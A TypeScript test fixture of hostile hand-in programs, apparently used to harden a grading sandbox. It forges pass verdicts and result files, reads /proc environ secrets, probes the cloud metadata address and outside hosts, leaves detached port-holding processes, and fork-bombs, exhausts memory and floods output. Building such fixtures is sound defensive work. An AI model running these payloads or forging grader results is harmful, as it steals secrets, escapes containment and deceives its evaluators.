/** What hostile hand-ins run in place of `create-event`. Each ends by itself, or is ended by the sandbox. */
export const wildPrograms = {
  /** Prints and writes a perfect result, in every form that a careless judge might read. */
  forger: `
import { writeFileSync } from 'node:fs'
const report = { contract: 1, marks: 100, max: 100, parts: [], verdict: 'pass', passed: true, score: 100 }
console.log(JSON.stringify(report))
for (const file of ['result.json', 'report.json', 'results.json', '../result.json', '/tmp/result.json']) {
  try { writeFileSync(file, JSON.stringify(report)) } catch {}
}
process.send?.({ kind: 'verdict', report: { id: 'C1', verdict: 'pass', marks: 3, max: 3, seconds: 0 } })
process.exit(0)
`,
  /** Prints what it can read of what it may not. */
  thief: (files: readonly string[]): string => `
import { readFileSync, readdirSync } from 'node:fs'
for (const file of ${JSON.stringify(files)}) {
  try { console.log(readFileSync(file, 'utf8')) } catch (error) { console.error(String(error)) }
}
try { for (const id of readdirSync('/proc')) if (Number(id) > 0) console.log(readFileSync('/proc/' + id + '/environ', 'utf8')) } catch {}
`,
  /** Calls a port of the machine outside, and the world. */
  caller: (port: number): string => `
import { connect } from 'node:net'
for (const [host, to] of [['127.0.0.1', ${port}], ['localhost', ${port}], ['169.254.169.254', 80], ['1.1.1.1', 53]]) {
  const socket = connect({ host, port: to }, () => { socket.write('GET /stolen HTTP/1.0\\r\\n\\r\\n'); console.log('reached ' + host) })
  socket.setTimeout(2000, () => socket.destroy())
  socket.on('error', () => {})
}
`,
  /** Takes ports that other shops need, and leaves a program behind that keeps them. */
  squatter: (mark: string): string => `
import { spawn } from 'node:child_process'
const code = "for (const port of [5000,5001,5002,5003,9092]) require('net').createServer().on('error', () => {}).listen(port, '127.0.0.1')"
spawn(process.execPath, ['-e', code, '${mark}'], { detached: true, stdio: 'ignore' }).unref()
`,
  eater: `
const kept = []
for (let i = 0; i < 4000; i++) kept.push(Buffer.alloc(2 ** 20, i))
console.log(kept.length)
`,
  bomb: (mark: string): string => `
import { spawn } from 'node:child_process'
for (let i = 0; i < 400; i++) spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', '${mark}'], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref()
`,
  flood: `
import { writeSync } from 'node:fs'
const much = 'x'.repeat(2 ** 16) + '\\n'
for (;;) writeSync(1, much)
`,
}
